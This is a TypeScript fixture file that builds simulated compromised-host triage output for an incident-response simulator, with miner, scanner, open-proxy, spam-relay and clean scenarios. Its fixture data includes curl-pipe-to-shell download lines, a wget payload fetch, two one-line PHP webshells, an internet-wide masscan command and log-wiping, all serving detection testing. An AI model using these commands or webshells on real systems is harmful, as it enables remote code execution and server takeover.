/**
 * Scripted host triage outputs for the simulator, in the exact format of
 * src/investigate/host/scripts/linux.sh (sections between nonce markers, content lines prefixed
 * "| "), so the parser reads the simulated hosts as it reads real ones. Times are relative to the
 * estate's now. The markers say NONCE; the simulator puts the run's nonce in its place.
 */
import type { HostScenario } from "./ssm-schema.ts";

const NOW_MARK = "NONCE";

interface Proc {
  pid: number;
  ppid?: number;
  uid: number;
  agoS: number;
  args: string;
  exe: string;
  deleted?: boolean;
  sha?: string;
}

const BASE_USERS = "U\t0\troot\nU\t33\twww-data\nU\t1000\tubuntu\nU\t106\tpostfix\nU\t13\tproxy\n";

function sha(seed: string): string {
  let h = 0x811c9dc5;
  let out = "";
  for (let round = 0; out.length < 64; round++) {
    for (const ch of `${seed}|${round}`) h = Math.imul(h ^ ch.charCodeAt(0), 0x01000193) >>> 0;
    out += h.toString(16).padStart(8, "0");
  }
  return out.slice(0, 64);
}

const BASE_PROCS: Proc[] = [
  { pid: 1, ppid: 0, uid: 0, agoS: 30 * 86400, args: "/sbin/init", exe: "/usr/lib/systemd/systemd" },
  { pid: 612, ppid: 1, uid: 0, agoS: 30 * 86400, args: "sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups", exe: "/usr/sbin/sshd" },
  { pid: 640, ppid: 1, uid: 0, agoS: 30 * 86400, args: "/snap/amazon-ssm-agent/current/amazon-ssm-agent", exe: "/snap/amazon-ssm-agent/current/amazon-ssm-agent" },
];

function section(name: string, body: string): string {
  const text = body.endsWith("\n") || body === "" ? body : body + "\n";
  return `@@ADX ${NOW_MARK} BEGIN ${name}\n${text}\n@@ADX ${NOW_MARK} END ${name} rc=0 bytes=${Buffer.byteLength(text)} cap=16000\n`;
}

const q = (lines: string[]) => lines.map((l) => `| ${l}`).join("\n");

interface Parts {
  procs: Proc[];
  ss: string[];
  miners?: string;
  proxy?: string;
  keys?: string;
  logins?: string[];
  history?: string;
  cron?: string;
  recent?: string;
  webshell?: string;
}

function render(now: Date, p: Parts): string {
  const epoch = Math.floor(now.getTime() / 1000);
  const procs = [...BASE_PROCS, ...p.procs];
  const ps =
    BASE_USERS +
    procs.map((x) => `P\t${x.pid}\t${x.ppid ?? 1}\t${x.uid}\t${epoch - x.agoS}\t${x.args}`).join("\n") +
    "\n" +
    procs.map((x) => `X\t${x.pid}\t${x.deleted ? 1 : 0}\t${x.sha ?? sha(x.exe)}\t${x.exe}${x.deleted ? " (deleted)" : ""}`).join("\n");
  const ss = [
    "Netid State     Recv-Q Send-Q Local Address:Port  Peer Address:Port Process",
    'tcp   LISTEN    0      128          0.0.0.0:22         0.0.0.0:*     users:(("sshd",pid=612,fd=3))',
    "tcp   ESTAB     0      0          10.0.1.15:41872  52.94.177.10:443   users:((\"amazon-ssm-agen\",pid=640,fd=9))",
    ...p.ss,
  ];
  return (
    section("meta", `now\t${epoch}\nhost\tip-10-0-1-15\nkernel\tLinux 6.8.0-1021-aws\nuid\t0\nboot\t${epoch - 30 * 86400}\nversion\t1\nos\tUbuntu 24.04.1 LTS`) +
    section("ps", ps) +
    section("net", "#> ss\n" + q(ss)) +
    section("miners", p.miners ?? "") +
    section("proxy", p.proxy ?? "") +
    section("keys", p.keys ?? `#> keys\t/home/ubuntu/.ssh/authorized_keys\t${epoch - 200 * 86400}\tubuntu\n${q(["ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBkVt9 deploy@ci"])}`) +
    section("logins", "#> last\n" + q(p.logins ?? ["ubuntu   pts/0        203.0.113.200    Mon Dec  1 09:12:01 2026 - Mon Dec  1 09:40:12 2026  (00:28)", "", "wtmp begins Sun Nov  1 00:00:01 2026"])) +
    section("history", p.history ?? "") +
    section("cron", p.cron ?? `#> cron\t/etc/crontab\t${epoch - 300 * 86400}\n${q(["17 *	* * *	root	cd / && run-parts --report /etc/cron.hourly"])}`) +
    section("recent", p.recent ?? "") +
    section("webshell", p.webshell ?? "") +
    section("agents", "A\tamazon-ssm-agent\tinactive\nA\tsnap.amazon-ssm-agent.amazon-ssm-agent\tactive\nA\tamazon-cloudwatch-agent\tinactive\nA\twazuh-agent\tinactive\nA\tossec\tinactive\nA\tauditd\tinactive") +
    `@@ADX ${NOW_MARK} DONE\n`
  );
}

/** The triage output of one scripted host. */
export function scenarioOutput(scenario: HostScenario, now: Date): string {
  const epoch = Math.floor(now.getTime() / 1000);
  const ago = (s: number) => epoch - s;
  switch (scenario) {
    case "miner":
      return render(now, {
        procs: [{ pid: 4242, ppid: 1, uid: 33, agoS: 5 * 3600, args: "/tmp/.x/xmrig -c /tmp/.x/config.json --donate-level 1", exe: "/tmp/.x/xmrig", deleted: true }],
        ss: ['tcp   ESTAB     0      0          10.0.1.15:51544  198.51.100.7:3333  users:(("xmrig",pid=4242,fd=12))'],
        miners: `M\t${ago(5 * 3600 + 120)}.0\t8425472\t/tmp/.x/xmrig\n#> pool\t/tmp/.x/config.json\t${ago(5 * 3600 + 120)}\n${q(['"url": "198.51.100.7:3333"', '"user": "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A"', '"donate-level": 1'])}`,
        keys: `#> keys\t/root/.ssh/authorized_keys\t${ago(5 * 3600 + 840)}\troot\n${q(["ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQC7 root@kali"])}\n#> keys\t/home/ubuntu/.ssh/authorized_keys\t${ago(200 * 86400)}\tubuntu\n${q(["ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBkVt9 deploy@ci"])}`,
        cron: `#> cron\t/etc/cron.d/apache-update\t${ago(5 * 3600 + 600)}\n${q(["*/5 * * * * www-data curl -fsSL http://203.0.113.50/x.sh | sh"])}`,
        history: `#> history\t/var/www/.bash_history\t${ago(5 * 3600)}\t211\n${q(["cd /tmp", "curl -fsSL http://203.0.113.50/x.sh | sh", "chmod +x /tmp/.x/xmrig", "history -c"])}`,
        recent: `F\t${ago(5 * 3600 + 120)}.5\t8425472\twww-data\t755\t/tmp/.x/xmrig\nF\t${ago(5 * 3600 + 120)}.5\t412\twww-data\t644\t/tmp/.x/config.json\nF\t${ago(6 * 3600)}.1\t98\twww-data\t644\t/var/www/html/wp-content/uploads/2026/12/x.php`,
        webshell: `#> webshell\t/var/www/html/wp-content/uploads/2026/12/x.php\t${ago(6 * 3600)}\n${q(["<?php @eval(base64_decode($_POST['c'])); ?>"])}`,
      });
    case "scanner": {
      const syn = Array.from({ length: 60 }, (_, i) => `tcp   SYN-SENT  0      1          10.0.1.15:${40000 + i}  192.0.2.${i + 1}:22   users:(("masscan",pid=3131,fd=3))`);
      return render(now, {
        procs: [{ pid: 3131, ppid: 1, uid: 0, agoS: 2 * 3600, args: "/root/.cache/masscan -p22 0.0.0.0/0 --rate 5000 --exclude 255.255.255.255", exe: "/root/.cache/masscan" }],
        ss: syn,
        history: `#> history\t/root/.bash_history\t${ago(2 * 3600)}\t180\n${q(["wget -q http://203.0.113.51/m -O /root/.cache/masscan", "chmod +x /root/.cache/masscan", "nohup /root/.cache/masscan -p22 0.0.0.0/0 --rate 5000 &"])}`,
        logins: [`root     pts/1        203.0.113.51     ${lastTime(new Date((epoch - 2 * 3600 - 300) * 1000))} - ${lastTime(new Date((epoch - 2 * 3600 + 60) * 1000))}  (00:06)`],
      });
    }
    case "open-proxy-squid": {
      const inbound = Array.from({ length: 25 }, (_, i) => `tcp   ESTAB     0      0          10.0.1.15:3128  198.18.${i}.7:${50000 + i}  users:(("squid",pid=2020,fd=${20 + i}))`);
      const outbound = Array.from({ length: 25 }, (_, i) => `tcp   ESTAB     0      0          10.0.1.15:${45000 + i}  203.0.113.${100 + i}:443  users:(("squid",pid=2020,fd=${60 + i}))`);
      return render(now, {
        procs: [{ pid: 2020, ppid: 1, uid: 13, agoS: 40 * 86400, args: "(squid-1) --kid squid-1 --foreground -sYC", exe: "/usr/sbin/squid" }],
        ss: ['tcp   LISTEN    0      256                *:3128            *:*    users:(("squid",pid=2020,fd=11))', ...inbound, ...outbound],
        proxy: `B\tsquid\t/usr/sbin/squid\n#> squid\t/etc/squid/squid.conf\t${ago(40 * 86400)}\n${q(["1412:http_access allow localhost", "1418:http_access allow all", "1431:http_port 3128"])}`,
      });
    }
    case "open-proxy-apache":
      return render(now, {
        procs: [{ pid: 1880, ppid: 1, uid: 0, agoS: 12 * 86400, args: "/usr/sbin/apache2 -k start", exe: "/usr/sbin/apache2" }],
        ss: [
          'tcp   LISTEN    0      511                *:80              *:*    users:(("apache2",pid=1880,fd=4))',
          ...Array.from({ length: 12 }, (_, i) => `tcp   ESTAB     0      0          10.0.1.15:${46000 + i}  203.0.113.${150 + i}:80  users:(("apache2",pid=1881,fd=${30 + i}))`),
        ],
        proxy: `#> apache\t/etc/apache2/apache2.conf\n${q(["231:ProxyRequests On"])}\n#> apache\t/etc/apache2/apache2.conf\n${q(["232:<Proxy *>"])}`,
      });
    case "spam-relay": {
      const smtp = Array.from({ length: 30 }, (_, i) => `tcp   ESTAB     0      0          10.0.1.15:${52000 + i}  198.51.100.${20 + i}:25  users:(("perl",pid=5151,fd=${5 + i}))`);
      return render(now, {
        procs: [{ pid: 5151, ppid: 1, uid: 33, agoS: 3 * 3600, args: "perl /dev/shm/.m/mailer.pl list.txt", exe: "/usr/bin/perl" }],
        ss: smtp,
        recent: `F\t${ago(3 * 3600 + 30)}.2\t5120\twww-data\t755\t/dev/shm/.m/mailer.pl\nF\t${ago(3 * 3600 + 30)}.2\t880412\twww-data\t644\t/dev/shm/.m/list.txt`,
        webshell: `#> webshell\t/var/www/html/contact/up.php\t${ago(3 * 3600 + 200)}\n${q(["<?php system($_GET['x']); ?>"])}`,
      });
    }
    case "clean":
      return render(now, {
        procs: [{ pid: 900, ppid: 1, uid: 0, agoS: 30 * 86400, args: "nginx: master process /usr/sbin/nginx -g daemon on; master_process on;", exe: "/usr/sbin/nginx" }],
        ss: ['tcp   LISTEN    0      511          0.0.0.0:80         0.0.0.0:*     users:(("nginx",pid=900,fd=6))'],
      });
  }
}

/** `last -F` prints times like "Mon Dec  1 09:12:01 2026". */
function lastTime(d: Date): string {
  const days = ["Sun", "Mon", "Tue", "Wed", "Thu", "Fri", "Sat"];
  const months = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"];
  const p = (n: number) => String(n).padStart(2, "0");
  return `${days[d.getUTCDay()]} ${months[d.getUTCMonth()]} ${String(d.getUTCDate()).padStart(2, " ")} ${p(d.getUTCHours())}:${p(d.getUTCMinutes())}:${p(d.getUTCSeconds())} ${d.getUTCFullYear()}`;
}
